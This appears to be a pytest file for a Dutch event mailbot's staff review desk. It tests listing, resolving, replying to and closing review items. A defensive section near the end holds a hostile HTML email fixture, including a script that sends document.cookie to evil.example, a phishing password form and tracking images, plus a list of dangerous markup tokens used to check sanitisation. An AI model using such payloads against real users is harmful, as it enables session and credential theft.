"""Ter controle on the desk (/controle): what waits, the message shown safely, and every action.

What staff notice: open items come first with the reason, sender and local
time, closed ones stay listed with who closed them, when and the note; an
item's page shows the message as received (never its scripts, remote images
or forms), what the bot read and what it did; each action (municipality or
organisation, sessions, confirm, own reply, close) is done by the same
function as `mailbot review resolve`, refused in Dutch where mail would be
(a slot clash), recorded with who and when, and followed by a Dutch notice.

The store is filled with corpus mail: 043 (a Platform31 staff member,
recorded for "Mensen tussen wal en schip" and confirmed, review) and 049 (an
invitee asks about parking: two review items, no reply). The desk's clock is
Monday 20 November 10.00 UTC, 11.00 in Lelystad.
"""

from __future__ import annotations

import email
import json
from email import policy
from email.message import EmailMessage
from pathlib import Path

import pytest
from click.testing import CliRunner
from deskkit import NOW, ROOT
from sqlmodel import select

from mailbot import db
from mailbot.cli import cli

CORPUS = ROOT / "tests" / "corpus"
LOCAL_NOW = "ma 20 nov 11.00"
PLATFORM31 = "k.verbeek@platform31.nl"
QUESTION = "t.willems@zoetermeer.nl"
KOEN = "addr:k.verbeek@platform31.nl"


def corpus(case: str) -> bytes:
    return (next(CORPUS.glob(f"{case}-*")) / "1.eml").read_bytes()


def review_id(desk, sender: str, reason_part: str = "") -> int:
    with desk.session() as s:
        items = s.exec(select(db.ReviewItem).where(db.ReviewItem.from_addr == sender)
                       .order_by(db.ReviewItem.id)).all()
    ids = [r.id for r in items if reason_part in r.reason]
    assert ids, (sender, reason_part)
    return ids[0]


def attendee(desk, email_address: str) -> db.Attendee | None:
    with desk.session() as s:
        return s.exec(select(db.Attendee).where(db.Attendee.email == email_address)).first()


def sessions_of(desk, key: str) -> set[str]:
    with desk.session() as s:
        row = s.exec(select(db.Attendee).where(db.Attendee.key == key)).one()
        return {x.session_id for x in s.exec(select(db.AttendeeSession)
                                              .where(db.AttendeeSession.attendee_id == row.id)).all()}


def outbox(desk) -> list[db.Outbox]:
    with desk.session() as s:
        return list(s.exec(select(db.Outbox).order_by(db.Outbox.id)).all())


def actions(desk, rid: int) -> list[db.StaffAction]:
    with desk.session() as s:
        return list(s.exec(select(db.StaffAction).where(db.StaffAction.review_id == rid)
                           .order_by(db.StaffAction.id)).all())


def item(desk, rid: int) -> db.ReviewItem:
    with desk.session() as s:
        return s.get(db.ReviewItem, rid)


def notices(html: str, kind: str = "") -> list[str]:
    import re

    return [m.group(2) for m in re.finditer(r'<p class="notice (\w+)"[^>]*>(.*?)</p>', html, re.S)
            if not kind or m.group(1) == kind]


def utc(d):
    from datetime import UTC

    return d if d.tzinfo else d.replace(tzinfo=UTC)


@pytest.fixture
def filled(desk):
    desk.ingest(corpus("043"))
    desk.ingest(corpus("049"))
    return desk


def test_the_list_shows_open_items_with_reason_sender_local_time_and_summary(filled):
    r = filled.client.get("/controle")
    assert r.status_code == 200
    html = r.text
    open_part, closed_part = html.split("Afgehandeld (", 1)
    assert "Afzender hoort niet bij een G32-gemeente" in open_part and PLATFORM31 in open_part
    assert "Vraag van de afzender" in open_part and QUESTION in open_part
    assert LOCAL_NOW in open_part  # received, in Lelystad's time with the date
    assert "Koen Verbeek" in open_part  # the summary
    assert "Nog niets afgehandeld" in closed_part


def test_the_item_page_shows_the_message_what_the_bot_read_and_what_it_did(filled):
    rid = review_id(filled, PLATFORM31)
    html = filled.client.get(f"/controle/{rid}").text
    message = html.split("Het bericht zoals ontvangen", 1)[1].split("Wat de bot las", 1)[0]
    assert "Projectleider | Platform31" in message  # the whole text as received, signature included
    read = html.split("Wat de bot las", 1)[1].split("Wat de bot deed", 1)[0]
    assert "Nieuwe tekst" in read or "nieuwe tekst" in read
    assert "Projectleider" not in read  # what the bot read: the new text, without the signature
    assert "titel of alias" in read and "Mensen tussen wal en schip" in read
    did = html.split("Wat de bot deed", 1)[1].split("Door medewerkers", 1)[0]
    assert "nieuw aangemeld" in did and "door de bot" in did
    assert "bevestiging aan k.verbeek@platform31.nl" in did and LOCAL_NOW in did


def test_a_question_that_got_no_reply_says_so(filled):
    rid = review_id(filled, QUESTION, "Vraag")
    html = filled.client.get(f"/controle/{rid}").text
    did = html.split("Wat de bot deed", 1)[1].split("Door medewerkers", 1)[0]
    assert "Geen antwoord verstuurd" in did and "Niets vastgelegd" in did


def test_the_sessions_form_has_the_fields_the_browser_test_uses(filled):
    rid = review_id(filled, PLATFORM31)
    html = filled.client.get(f"/controle/{rid}").text
    form = html.split(f'action="/controle/{rid}/sessies"', 1)[1].split("</form>", 1)[0]
    assert 'name="sessies" value="financien"' in form
    assert 'name="sessies" value="wal-en-schip" checked' in form  # what is recorded, ticked
    assert 'name="mail" value="1"' in form and "Stuur de bevestiging" in form
    assert "Sessies vastleggen" in form and 'name="csrftoken"' in form


def test_setting_sessions_on_the_page_records_them_and_who_did_it(filled):
    rid = review_id(filled, PLATFORM31)
    r = filled.post(f"/controle/{rid}/sessies", {"deelnemer": KOEN, "sessies": ["financien", "netwerkborrel"],
                                                  "afsluiten": "1"}, follow=False)
    assert r.status_code == 303 and r.headers["location"] == f"/controle/{rid}"
    page = filled.client.get(r.headers["location"]).text
    (notice,) = notices(page, "ok")
    assert "Koen Verbeek" in notice and "Afgehandeld" in notice
    assert sessions_of(filled, KOEN) == {"financien", "netwerkborrel"}
    done = actions(filled, rid)
    assert {a.actor for a in done} == {"anna"} and {utc(a.at) for a in done} == {NOW}
    assert item(filled, rid).resolved_by == "anna"


def test_a_slot_clash_is_refused_with_the_dutch_message_and_nothing_changes(filled):
    rid = review_id(filled, PLATFORM31)
    mails = len(outbox(filled))
    r = filled.post(f"/controle/{rid}/sessies", {"deelnemer": KOEN, "sessies": ["financien", "statushouders"],
                                                  "mail": "1", "afsluiten": "1"})
    (error,) = notices(r.text, "error")
    assert "hetzelfde tijdvak" in error and "Financiën" in error and "Statushouders" in error
    assert sessions_of(filled, KOEN) == {"wal-en-schip"}
    assert len(outbox(filled)) == mails and actions(filled, rid) == []
    assert item(filled, rid).resolved_at is None


def test_sessions_with_the_mail_box_ticked_queue_a_confirmation_with_its_calendar_update(filled):
    rid = review_id(filled, PLATFORM31)
    before = {o.id for o in outbox(filled)}
    filled.post(f"/controle/{rid}/sessies", {"deelnemer": KOEN, "sessies": ["financien"], "mail": "1"})
    (new,) = [o for o in outbox(filled) if o.id not in before]
    assert new.kind == "confirmation" and json.loads(new.to) == [PLATFORM31]
    msg = email.message_from_bytes(new.raw, policy=policy.default)
    assert any(p.get_content_type() == "text/calendar" for p in msg.walk())
    assert "vervallen" in msg.get_body(("plain",)).get_content()  # says what staff changed
    assert item(filled, rid).resolved_at is None  # "afsluiten" was not ticked


def test_confirming_again_needs_a_tick_and_then_sends_the_standard_mail(filled):
    rid = review_id(filled, PLATFORM31)
    page = filled.client.get(f"/controle/{rid}").text
    form = page.split(f'action="/controle/{rid}/bevestigen"', 1)[1].split("</form>", 1)[0]
    assert "al een bevestiging" in form and 'name="toch" value="1" required' in form
    mails = len(outbox(filled))

    r = filled.post(f"/controle/{rid}/bevestigen", {"afsluiten": "1"})  # no tick
    assert any("al een bevestiging" in n for n in notices(r.text, "error"))
    assert len(outbox(filled)) == mails and item(filled, rid).resolved_at is None

    r = filled.post(f"/controle/{rid}/bevestigen", {"toch": "1", "afsluiten": "1"})
    assert any("Bevestiging in de wachtrij" in n for n in notices(r.text, "ok"))
    (new,) = outbox(filled)[mails:]
    msg = email.message_from_bytes(new.raw, policy=policy.default)
    assert new.kind == "confirmation" and any(p.get_content_type() == "text/calendar" for p in msg.walk())
    assert [a.action for a in actions(filled, rid)] == ["confirm", "close"]


def test_assigning_a_municipality_and_an_organisation(filled):
    rid = review_id(filled, PLATFORM31)
    r = filled.post(f"/controle/{rid}/gemeente", {"gemeente": "none", "organisatie": "Platform31 Den Haag",
                                                   "afsluiten": "1"})
    assert notices(r.text, "ok")
    koen = attendee(filled, PLATFORM31)
    assert koen.organisation == "Platform31 Den Haag" and koen.municipality is None and not koen.needs_review
    r = filled.post(f"/controle/{rid}/gemeente", {"gemeente": "zwolle"})
    assert attendee(filled, PLATFORM31).municipality == "zwolle"
    assert [a.actor for a in actions(filled, rid)] == ["anna"] * len(actions(filled, rid))


def test_a_short_reply_of_ones_own_is_queued_threaded_with_our_footer(filled):
    rid = review_id(filled, QUESTION, "Vraag")
    text = "Er is parkeergelegenheid achter het stadhuis.\nParkeren kost <5 euro.\n\nTot ziens op 30 november."
    r = filled.post(f"/controle/{rid}/antwoord", {"tekst": text, "afsluiten": "1"})
    assert any("Antwoord in de wachtrij" in n for n in notices(r.text, "ok"))
    (mail,) = [o for o in outbox(filled) if o.source_message_id and QUESTION in o.to]
    msg = email.message_from_bytes(mail.raw, policy=policy.default)
    original = email.message_from_bytes(corpus("049"), policy=policy.default)
    assert str(msg["To"]).lower() == QUESTION
    assert str(msg["Subject"]) == "Re: Vraag netwerkdag 30 november"
    assert str(msg["In-Reply-To"]).strip() == str(original["Message-ID"]).strip()
    body = msg.get_body(("plain",)).get_content()
    assert "parkeergelegenheid achter het stadhuis" in body and "Met vriendelijke groet" in body
    html = msg.get_body(("html",)).get_content()
    assert "stadhuis.<br>Parkeren kost &lt;5 euro." in html  # the staff member's lines, as typed
    page = filled.client.get(f"/controle/{rid}").text
    assert "antwoord van een medewerker aan t.willems@zoetermeer.nl" in page  # now it says a reply went out


def test_closed_items_stay_listed_with_who_when_and_the_note(filled):
    rid = review_id(filled, QUESTION, "Vraag")
    other = review_id(filled, PLATFORM31)
    filled.post(f"/controle/{rid}/sluiten", {"notitie": "Telefonisch beantwoord."})
    filled.now[0] = NOW.replace(hour=13, minute=5)
    filled.post(f"/controle/{other}/sluiten", {"notitie": "Gezien."}, client=filled.login("bert"))
    html = filled.client.get("/controle").text
    open_part, closed_part = html.split("Afgehandeld (", 1)
    assert f'href="/controle/{rid}"' not in open_part and f'href="/controle/{other}"' not in open_part
    rows = {n: closed_part.split(f'href="/controle/{n}"', 1)[1].split("</tr>", 1)[0] for n in (rid, other)}
    assert "anna" in rows[rid] and LOCAL_NOW in rows[rid] and "Telefonisch beantwoord." in rows[rid]
    assert "bert" in rows[other] and "ma 20 nov 14.05" in rows[other] and "Gezien." in rows[other]
    assert item(filled, rid).note == "Telefonisch beantwoord."
    page = filled.client.get(f"/controle/{rid}").text
    assert "Afgehandeld door anna" in page and "Telefonisch beantwoord." in page


def test_an_unknown_item_is_a_dutch_404(filled):
    r = filled.client.get("/controle/999")
    assert r.status_code == 404 and "Er is geen controle-item 999" in r.text


# --- the page and the command line decide alike ------------------------------


def cli_store(tmp_path: Path, *commands: tuple[str, ...]) -> dict:
    storage = tmp_path / "cli-storage"
    base = ["--config", str(ROOT / "config.toml"), "--storage", str(storage), "--now", NOW.isoformat()]
    runner = CliRunner()
    for command in commands:
        result = runner.invoke(cli, [*base, *command])
        assert result.exit_code == 0, (command, result.output)
    return json.loads(runner.invoke(cli, [*base, "export", "--format", "json"]).stdout)


def desk_export(desk) -> dict:
    base = ["--config", str(ROOT / "config.toml"), "--storage", str(desk.bot.config.storage)]
    return json.loads(CliRunner().invoke(cli, [*base, "export", "--format", "json"]).stdout)


def test_resolving_on_the_page_changes_the_registry_exactly_as_review_resolve(filled, tmp_path):
    koen = review_id(filled, PLATFORM31)
    question = review_id(filled, QUESTION, "Vraag")
    filled.post(f"/controle/{koen}/sessies", {"deelnemer": KOEN, "sessies": ["financien", "netwerkborrel"],
                                               "afsluiten": "1"})
    filled.post(f"/controle/{koen}/gemeente", {"gemeente": "none", "organisatie": "Platform31", "afsluiten": "1"})
    filled.post(f"/controle/{question}/sessies", {"naam": "Thijs Willems", "sessies": ["veiligheid"],
                                                   "afsluiten": "1"})
    on_page = desk_export(filled)

    ingest = ("ingest", str(next(CORPUS.glob("043-*")) / "1.eml"), str(next(CORPUS.glob("049-*")) / "1.eml"))
    on_cli = cli_store(tmp_path, ingest,
                       ("review", "resolve", str(koen), "--sessions", "financien,netwerkborrel", "--by", "anna"),
                       ("review", "resolve", str(koen), "--municipality", "none", "--organisation", "Platform31",
                        "--by", "anna"),
                       ("review", "resolve", str(question), "--sessions", "veiligheid", "--by", "anna"))
    assert on_page["attendees"] == on_cli["attendees"]
    assert {a["email"] for a in on_page["attendees"]} == {PLATFORM31, QUESTION}
    assert on_page["review"] == on_cli["review"]  # the same items left open


# --- the message is shown, never run -----------------------------------------


HOSTILE = """<html><head><style>body { background: url(https://evil.example/bg.png) }</style>
<script>document.location = 'https://evil.example/steal?c=' + document.cookie</script></head>
<body onload="alert('onload')">
<p>Is er parkeergelegenheid bij het stadhuis?</p>
<img src="https://tracker.example/open.gif" onerror="alert('img')" width="1" height="1">
<form action="https://evil.example/login" method="post"><input name="wachtwoord" type="password">
<button>Inloggen</button></form>
<p><a href="javascript:alert('link')">Klik hier</a> of lees <a href="https://www.g32.nl/programma">het programma</a>.</p>
<div style="background-image: url(https://evil.example/div.png)">Met vriendelijke groet, Ria</div>
<iframe src="https://evil.example/frame"></iframe>
</body></html>"""


def hostile_mail(html: str | None = None, text: str | None = None) -> bytes:
    msg = EmailMessage()
    msg["From"] = "Ria de Wit <ria.dewit@example.org>"
    msg["To"] = "info@G32.nl"
    msg["Subject"] = "Vraag over parkeren"
    msg["Date"] = "Mon, 13 Nov 2017 10:00:00 +0100"
    msg["Message-ID"] = "<hostile-1@example.org>"
    if text is not None:
        msg.set_content(text)
    else:
        msg.set_content(html or HOSTILE, subtype="html")
    return msg.as_bytes()


def test_hostile_html_is_rendered_harmless(desk):
    desk.ingest(hostile_mail())
    rid = review_id(desk, "ria.dewit@example.org")
    r = desk.client.get(f"/controle/{rid}")
    assert r.status_code == 200
    shown = r.text.split("Het bericht zoals ontvangen", 1)[1].split("Wat de bot las", 1)[0]
    assert "Is er parkeergelegenheid bij het stadhuis?" in shown  # the text is there
    lowered = shown.lower()
    for bad in ("<script", "onload=", "onerror=", "<img", "tracker.example", "<form", "<input", "<button",
                "javascript:", "<style", "style=", "evil.example", "<iframe"):
        assert bad not in lowered, bad
    assert '<a href="https://www.g32.nl/programma" rel="noopener noreferrer nofollow">' in shown
    assert "img-src 'self'" in r.headers["content-security-policy"]  # and the browser loads no remote image
    assert "form-action 'self'" in r.headers["content-security-policy"]


def test_a_text_part_is_shown_as_text_not_as_markup(desk):
    desk.ingest(hostile_mail(text="Is er parkeergelegenheid? <script>alert('x')</script> <b>vet</b>\n"))
    rid = review_id(desk, "ria.dewit@example.org")
    shown = desk.client.get(f"/controle/{rid}").text.split("Het bericht zoals ontvangen", 1)[1]
    assert "&lt;script&gt;alert(" in shown and "<script>alert(" not in shown and "<b>vet" not in shown
